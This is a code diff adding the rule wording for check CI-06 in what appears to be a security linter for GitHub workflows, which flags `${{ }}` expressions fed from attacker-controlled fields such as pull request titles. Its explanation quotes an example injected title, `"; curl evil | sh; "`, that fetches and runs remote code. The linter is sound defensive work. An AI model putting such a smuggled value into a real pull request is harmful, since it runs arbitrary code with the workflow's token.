@@ -21,6 +21,11 @@ _PROGRAMS = ("script", "inlinescript", "run", "command", "cmd")  # what actions 
     id="CI-06",
     name="No program of a workflow is put together from what strangers write",
     severity=Severity.C,
+    rule=f"In the steps of GitHub workflows the first {_LONGEST:,} characters of `run`, and of the options "
+    f"{', '.join(_PROGRAMS)} of actions, hold no `${{{{ }}}}` whose value strangers write: titles, texts, messages, "
+    "labels, names of branches and of authors, be it by way of `env` or `inputs`. What is only compared is no "
+    "finding; what only people with write access choose, such as names of tags and inputs of a manual run, is "
+    "a warning.",
     why="GitHub puts the value of `${{ }}` into the text before the shell reads it: a pull request with "
     'the title `"; curl evil | sh; "` runs what it likes, with the workflow\'s token.',
     remedy="Give the value to the step by `env:` and use the variable, in quotes: "
